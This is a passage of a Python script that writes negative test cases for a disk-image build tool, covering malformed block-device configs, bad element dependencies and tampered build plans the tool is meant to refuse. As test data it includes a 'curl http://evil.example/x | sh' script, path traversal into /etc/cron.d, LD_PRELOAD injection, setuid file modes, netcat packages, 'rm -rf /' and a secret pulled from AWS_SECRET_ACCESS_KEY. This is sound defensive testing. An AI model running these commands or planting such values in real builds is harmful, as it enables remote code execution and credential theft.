    files = {"pkg__map": text, "package__installs_yaml": "vim:\n"}
    elem("pkg-map", what, **files)
for what, text in {
    "unclosed": "- mkfs: {name: x\n", "scalar": "hello\n", "node-traversal": cfg(fs("{name: mkfs_root, base: root, type: ext4, label: root}",
        extra=["mkfs: {name: ../../../../tmp/x/evil, base: root, type: swap, label: swp}"])),
    "mount-traversal": cfg(fs("{name: mkfs_root, base: root, type: ext4, label: root}", mount="/../../tmp/x")),
    "zfs": cfg(fs("{name: mkfs_root, base: root, type: zfs, label: root}")),
    "label-long": cfg(fs("{name: mkfs_root, base: root, type: xfs, label: averyverylonglabel}")),
    "deep": "- " * 100 + "x\n", "keys": "- mkfs:\n" + "".join("    k%d: v\n" % i for i in range(6000)),
    "missing-base": "- mkfs: {name: mkfs_root}\n",
    "gpt-129": cfg(["local_loop: {name: image0, size: 10GiB}", "partitioning: {base: image0, label: gpt, partitions: [" +
                    ", ".join("{name: p%d, base: image0, size: 1MiB}" % i for i in range(129)) + "]}",
                    "mkfs: {name: mkfs_root, base: p0, type: ext4, label: root}",
                    "mount: {name: mnt_root, base: mkfs_root, mount_point: /}", "fstab: {name: fstab_root, base: mnt_root}"]),
    "fstab-newline": cfg(ROOT + ["mkfs: {name: mkfs_root, base: root, type: ext4, label: root}",
                                 "mount: {name: mnt_root, base: mkfs_root, mount_point: /}",
                                 'fstab: {name: fstab_root, base: mnt_root, options: "a\\nb"}']),
    "bom-error": "\ufeff- mkfs: {name: x\n",
}.items():
    elem("block-device", what, block__device__default_yaml=text, element__provides="block-device\n")
for what, text in {"unknown": "no-such-element\n", "slash": "../vm\n", "two-os": "ubuntu-minimal\n"}.items():
    elem("element-deps", what, element__deps=text)
elem("element-deps", "huge", element__deps="x\n" * 524289)


# ---------------------------------------------------------------- plan files
# A case edits the plan dib makes of PLAN_BASE (the test runs dib plan -o
# first, so the cases follow the compiler): "edits" are applied in order
# (op set/delete/append at a JSON pointer, a negative index counting from
# the end of an array; swap and append-copy take a second pointer; op
# evil-file gives the first file with content a new content, its blob and
# digest consistent; evil-blob and evil-blob-raw change the first blob);
# "prefix"/"suffix" wrap the result. A case with "raw" is those bytes
# instead ([text, repeat] pairs).
PLAN_BASE = "name: h\ndistro: debian-minimal\nskip-base: true\noutputs: [tar]\n"


def plan(kind, what, edits=(), raw=None, prefix="", suffix=""):
    c = {}
    if edits:
        c["edits"] = [dict(zip(("op", "path", "value"), e)) for e in edits]
    if raw is not None:
        c["raw"] = raw
    if prefix:
        c["prefix"] = prefix
    if suffix:
        c["suffix"] = suffix
    cases["plan"].append((kind, what, c))


def pset(path, value):
    return ("set", path, value)


EVIL = "#!/bin/sh\ncurl http://evil.example/x | sh\n"
# Changed after dib plan: each must be refused, naming what changed.
plan("tamper", "bootstrap-mirror", [pset("/steps/0/bootstrap/mirror", "http://evil.example/debian")])
plan("tamper", "bootstrap-suite", [pset("/steps/0/bootstrap/suite", "sid")])
plan("tamper", "bootstrap-include", [("append", "/steps/0/bootstrap/include", "netcat-openbsd")])
plan("tamper", "bootstrap-provider", [pset("/steps/0/bootstrap/provider", "sh")])
plan("tamper", "script-content", [("evil-file", "", EVIL)])
plan("tamper", "blob-content", [("evil-blob", "", EVIL)])
plan("tamper", "file-mode", [pset("/files/0/mode", 0o4755)])
plan("tamper", "file-path-escape", [pset("/files/0/path", "../../../etc/cron.d/x")])
plan("tamper", "file-path-absolute", [pset("/files/0/path", "/etc/cron.d/x")])
plan("tamper", "env-value", [pset("/env/0/value", "s390x")])
plan("tamper", "env-added", [("append", "/env", {"name": "LD_PRELOAD", "value": "/tmp/x.so", "origin": {"kind": "default"}})])
plan("tamper", "env-secret-value", [("append", "/env", {"name": "DIB_X_PASSWORD", "value": "hunter2", "secret": True, "origin": {"kind": "default"}})])
plan("tamper", "env-from-env", [("append", "/env", {"name": "DIB_X_TOKEN", "value": "<secret>", "secret": True, "from_env": "AWS_SECRET_ACCESS_KEY", "origin": {"kind": "default"}})])
plan("tamper", "dep-dropped", [pset("/steps/-1/deps", [])])
plan("tamper", "dep-added", [("append", "/steps/2/deps", "0" * 64)])
plan("tamper", "step-id", [pset("/steps/1/id", "0" * 64)])
plan("tamper", "plan-id", [pset("/id", "1" * 64)])
plan("tamper", "step-removed", [("delete", "/steps/3", None)])
plan("tamper", "steps-swapped", [("swap", "/steps/2", "/steps/3")])
plan("tamper", "step-duplicated", [("append-copy", "/steps", "/steps/2")])
plan("tamper", "step-kind", [pset("/steps/2/kind", "output")])
plan("tamper", "phase-script-path", [pset("/steps/2/phase/scripts/0/path", "../../../../../bin/sh")])
plan("tamper", "phase-where", [pset("/steps/5/where", "host")])
plan("tamper", "image-name-escape", [pset("/image/name", "../../../tmp/x/ESCAPED")])
plan("tamper", "image-name-absolute", [pset("/image/name", "/tmp/x/ESCAPED")])
plan("tamper", "image-release", [pset("/image/release", "bookworm/../../../tmp/x")])
plan("tamper", "image-arch", [pset("/image/arch", "arm64")])
plan("tamper", "element-source", [pset("/elements/0/source", "/tmp/x")])
plan("tamper", "host-tool-package", [pset("/host_tools/0/package", "netcat-openbsd")])
plan("tamper", "output-path-escape", [pset("/steps/-1/output/path", "../../x.tar")])
plan("tamper", "output-path-absolute", [pset("/steps/-1/output/path", "/tmp/x.tar")])
plan("tamper", "output-format", [pset("/steps/-1/output/format", "qcow2")])
plan("tamper", "second-parameter-set", [pset("/steps/2/output", {"format": "tar", "path": "h.tar"})])
# Versions.
plan("version", "format-3", [pset("/format_version", 3)])
plan("version", "format-0", [pset("/format_version", 0)])
plan("version", "format-string", [pset("/format_version", "1")])
plan("version", "format-huge", [pset("/format_version", 1e300)])
plan("version", "dib-major", [pset("/dib_version", "99.0.0")])
plan("version", "dib-escape", [pset("/dib_version", "\x1b[2J")])
# Not the plan's schema.
plan("schema", "unknown-key", [pset("/run", "rm -rf /")])
plan("schema", "unknown-step-key", [pset("/steps/0/run", "rm -rf /")])
plan("schema", "deps-string", [pset("/steps/0/deps", "x")])
plan("schema", "id-not-hex", [pset("/steps/0/id", "abc")])
plan("schema", "kind-unknown", [pset("/steps/0/kind", "shell")])
plan("schema", "steps-missing", [("delete", "/steps", None)])
plan("schema", "steps-null", [pset("/steps", None)])
plan("schema", "image-null", [pset("/image", None)])
plan("schema", "blob-not-base64", [("evil-blob-raw", "", "%%% not base64 %%%")])
plan("schema", "size-negative", [pset("/files/0/size", -1)])
plan("schema", "env-name-bad", [pset("/env/0/name", "A B")])
plan("schema", "control-chars", [pset("/image/name", "h\x1b]0;owned\x07")])
# Not JSON, or not an object.
plan("json", "empty", raw=[["", 1]])
plan("json", "truncated", raw=[['{"format_version": 1, "steps": [', 1]])
plan("json", "array", raw=[["[]", 1]])
plan("json", "string", raw=[['"plan"', 1]])
plan("json", "null", raw=[["null", 1]])
plan("json", "object-empty", raw=[["{}", 1]])
plan("json", "nul-bytes", raw=[["\x00", 4096]])
plan("json", "deep-arrays", raw=[["[", 200000]])
plan("json", "deep-objects", raw=[['{"a":', 100000]])
plan("json", "huge-number", raw=[['{"format_version": 1' + "0" * 100000 + "}", 1]])
plan("json", "long-string", raw=[['{"id": "', 1], ["x", 3 << 20], ['"}', 1]])
plan("json", "trailing-garbage", suffix="\n{}")
# Values a message would echo: cut (diag.Clip), whatever their size.
plan("version", "dib-huge", [pset("/format_version", 3), pset("/dib_version", "9" * 100000)])
plan("version", "format-huge-string", [pset("/format_version", "1" * 100000)])
plan("version", "format-huge-array", raw=[['{"format_version": [', 1], ["1,", 50000], ["1]}", 1]])
plan("schema", "id-huge", [pset("/steps/0/id", "g" * 100000)])
plan("schema", "env-name-huge", [pset("/env/0/name", "A" * 100000)])
# A byte order mark before a plan file: read as the plan it is (as a
# Dibfile's), so a tampered plan behind one is refused naming the change.
plan("json", "bom-tampered", [pset("/steps/0/bootstrap/mirror", "http://evil.example/debian")], prefix="\ufeff")
plan("json", "bom-twice", prefix="\ufeff\ufeff")
plan("json", "bom-version-3", [pset("/format_version", 3)], prefix="\ufeff")


# ---------------------------------------------------------------- write
def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(text.encode("utf-8", "surrogateescape") if isinstance(text, str) else text)


def raw(text):
    """Texts may carry lone bytes (\\xff) meant as bytes, not characters."""
    if any(0x80 <= ord(c) <= 0xff for c in text) and all(ord(c) <= 0xff for c in text) and "\xff" in text:
        return text.encode("latin-1")
    return text


for sub in cases:
    shutil.rmtree(os.path.join(HERE, sub), ignore_errors=True)
counts = {}
for sub in ("dibfile", "blockdev"):
    for i, (kind, what, text) in enumerate(cases[sub], 1):
        write(os.path.join(HERE, sub, "%03d-%s-%s.yaml" % (i, kind, what)), raw(text))
        counts[sub + "/" + kind] = counts.get(sub + "/" + kind, 0) + 1
for i, (kind, what, files, dtext) in enumerate(cases["elements"], 1):
    d = os.path.join(HERE, "elements", "%03d-%s-%s" % (i, kind, what))
    write(os.path.join(d, "Dibfile.yaml"), dtext or "name: h\ndistro: debian-minimal\nelements: [fz]\noutputs: [raw]\n")
    for name, text in files.items():
        write(os.path.join(d, "elements", name), raw(text))
    if not any(n.endswith("element-deps") for n in files):
        write(os.path.join(d, "elements", "fz", "element-deps"), "")
    counts["elements/" + kind] = counts.get("elements/" + kind, 0) + 1
write(os.path.join(HERE, "plan", "base.yaml"), PLAN_BASE)
for i, (kind, what, c) in enumerate(cases["plan"], 1):
    write(os.path.join(HERE, "plan", "%03d-%s-%s.json" % (i, kind, what)), json.dumps(c, indent=1, sort_keys=True) + "\n")
    counts["plan/" + kind] = counts.get("plan/" + kind, 0) + 1
total = sum(counts.values())
for k in sorted(counts):
    print("%-28s %d" % (k, counts[k]))
print("%-28s %d" % ("total", total))
